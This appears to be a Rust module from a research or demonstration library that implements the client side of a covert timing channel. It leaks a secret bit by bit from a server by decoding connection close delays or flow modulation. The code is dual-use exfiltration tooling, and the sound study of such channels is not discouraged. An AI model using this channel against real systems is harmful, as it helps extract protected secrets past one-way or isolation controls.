//! The receiving side: requests bits one by one and decodes them from what
//! the connection does.
//!
//! The leak runs in a background task. [`LeakyClient::get_secret`] polls its
//! progress.
//!
//! # Example
//!
//! ```rust,no_run
//! # async fn example() -> leaky_diode::Result<()> {
//! use std::time::Duration;
//! use leaky_diode::{ChannelParameters, LeakyClient};
//!
//! let params = ChannelParameters::close_delay().low(100).high(300).build()?;
//! let mut client = LeakyClient::new("diode.example", 4444, params);
//! client.start().await?;
//!
//! loop {
//!     let (secret, finished) = client.get_secret(true, Some(Duration::from_secs(1))).await?;
//!     println!("{}", String::from_utf8_lossy(&secret));
//!     if finished {
//!         break;
//!     }
//! }
//! client.stop().await;
//! # Ok(())
//! # }
//! ```

pub mod decoder;
pub mod sequencer;

use std::time::Duration;

use tokio::sync::watch;
use tokio::task::JoinHandle;
use tokio_util::sync::CancellationToken;

pub use decoder::{ChannelDecoder, CloseDelayDecoder, FlowModulationDecoder};
pub use sequencer::BitIndexSequencer;

use crate::bits::Bit;
use crate::error::{ConnectionError, Error, Result};
use crate::params::ChannelParameters;

/// State shared between the leak task and the client handle.
#[derive(Debug, Default)]
struct LeakState {
    sequencer: BitIndexSequencer,
    error: Option<ConnectionError>,
}

/// Handle to a running leak.
#[derive(Debug)]
struct Running {
    cancel: CancellationToken,
    task: JoinHandle<()>,
}

/// Covert-channel client.
#[derive(Debug)]
pub struct LeakyClient {
    host: String,
    port: u16,
    params: ChannelParameters,
    state: Option<watch::Receiver<LeakState>>,
    running: Option<Running>,
}

impl LeakyClient {
    /// Create a stopped client for the server at `host:port`.
    #[must_use]
    pub fn new(host: impl Into<String>, port: u16, params: ChannelParameters) -> Self {
        Self {
            host: host.into(),
            port,
            params,
            state: None,
            running: None,
        }
    }

    /// Start leaking in the background.
    ///
    /// Connection problems are not reported here; they surface from
    /// [`get_secret`](Self::get_secret).
    ///
    /// # Errors
    ///
    /// Returns [`Error::AlreadyStarted`] if the client was started before.
    pub async fn start(&mut self) -> Result<()> {
        if self.state.is_some() {
            return Err(Error::AlreadyStarted);
        }

        let (tx, rx) = watch::channel(LeakState::default());
        let cancel = CancellationToken::new();
        let task = tokio::spawn(run_leak(
            self.host.clone(),
            self.port,
            self.params.clone(),
            tx,
            cancel.clone(),
        ));

        tracing::info!(
            host = %self.host,
            port = self.port,
            mode = %self.params.mode(),
            "leak started"
        );
        self.state = Some(rx);
        self.running = Some(Running { cancel, task });
        Ok(())
    }

    /// Current partial secret and whether it is complete.
    ///
    /// With `block` set, waits until at least one new bit is decoded since the
    /// previous call, the leak ends, or `timeout` elapses. Only whole payload
    /// bytes are returned. Once finished, every call returns the same bytes
    /// with `true`.
    ///
    /// # Errors
    ///
    /// Returns [`Error::NotStarted`] before [`start`](Self::start), and
    /// [`Error::Connection`] if the leak failed.
    pub async fn get_secret(
        &mut self,
        block: bool,
        timeout: Option<Duration>,
    ) -> Result<(Vec<u8>, bool)> {
        let state = self.state.as_mut().ok_or(Error::NotStarted)?;

        // A closed channel means the leak task is gone; nothing to wait for.
        let pending = !state.has_changed().unwrap_or(true);
        if block && pending {
            // Either way the current state is what gets reported: an elapsed
            // timeout or a closed channel both leave it unchanged.
            let woke = match timeout {
                Some(timeout) => tokio::time::timeout(timeout, state.changed())
                    .await
                    .is_ok_and(|changed| changed.is_ok()),
                None => state.changed().await.is_ok(),
            };
            if !woke {
                tracing::trace!("get_secret returned without new bits");
            }
        }

        let current = state.borrow_and_update();
        if let Some(e) = &current.error {
            return Err(e.clone().into());
        }
        Ok((
            current.sequencer.secret().to_vec(),
            current.sequencer.finished(),
        ))
    }

    /// Cancel the leak and close its connection.
    ///
    /// The partial secret stays readable through `get_secret`. Safe to call
    /// at any time and more than once.
    pub async fn stop(&mut self) {
        let Some(running) = self.running.take() else {
            return;
        };
        running.cancel.cancel();
        if let Err(e) = running.task.await {
            tracing::error!(error = %e, "leak task failed");
        }
        tracing::info!(bits = self.bits_decoded(), "leak stopped");
    }

    /// Secret length, known once the 16 header bits are decoded.
    #[must_use]
    pub fn secret_length(&self) -> Option<usize> {
        self.state
            .as_ref()
            .and_then(|s| s.borrow().sequencer.secret_length())
    }

    /// Bits decoded so far.
    #[must_use]
    pub fn bits_decoded(&self) -> u32 {
        self.state
            .as_ref()
            .map_or(0, |s| s.borrow().sequencer.bits_decoded())
    }

    /// Total bits to decode, known once the header is decoded.
    #[must_use]
    pub fn total_bits(&self) -> Option<u32> {
        self.state
            .as_ref()
            .and_then(|s| s.borrow().sequencer.total_bits())
    }

    /// Channel parameters the client decodes with.
    #[must_use]
    pub fn params(&self) -> &ChannelParameters {
        &self.params
    }
}

impl Drop for LeakyClient {
    fn drop(&mut self) {
        if let Some(running) = self.running.take() {
            running.cancel.cancel();
            running.task.abort();
        }
    }
}

/// Body of the background task.
async fn run_leak(
    host: String,
    port: u16,
    params: ChannelParameters,
    state: watch::Sender<LeakState>,
    cancel: CancellationToken,
) {
    let result = tokio::select! {
        () = cancel.cancelled() => {
            tracing::debug!("leak cancelled");
            return;
        }
        result = leak(&host, port, params, &state) => result,
    };

    match result {
        Ok(()) => tracing::info!(%host, port, "secret complete"),
        Err(e) => {
            tracing::warn!(%host, port, error = %e, "leak failed");
            state.send_modify(|s| s.error = Some(e));
        }
    }
}

async fn leak(
    host: &str,
    port: u16,
    params: ChannelParameters,
    state: &watch::Sender<LeakState>,
) -> std::result::Result<(), ConnectionError> {
    let addrs = decoder::resolve(host, port).await?;

    match ChannelDecoder::new(addrs, params) {
        ChannelDecoder::CloseDelay(decoder) => {
            while let Some(index) = next_index(state) {
                let bit = decoder.measure(index).await?;
                record(state, index, bit);
            }
        }
        ChannelDecoder::FlowModulation(decoder) => {
            let mut stream = decoder.connect().await?;
            while let Some(index) = next_index(state) {
                let bit = decoder.measure(index, &mut stream).await?;
                record(state, index, bit);
            }
        }
    }
    Ok(())
}

fn next_index(state: &watch::Sender<LeakState>) -> Option<u32> {
    state.borrow().sequencer.next_index()
}

fn record(state: &watch::Sender<LeakState>, index: u32, bit: Bit) {
    let mut learned_length = None;
    state.send_modify(|s| {
        let had_length = s.sequencer.secret_length().is_some();
        if let Err(e) = s.sequencer.push(bit) {
            tracing::error!(index, "{e}");
            return;
        }
        if !had_length {
            learned_length = s.sequencer.secret_length();
        }
    });
    if let Some(len) = learned_length {
        tracing::info!(secret_len = len, "secret length decoded");
    }
}
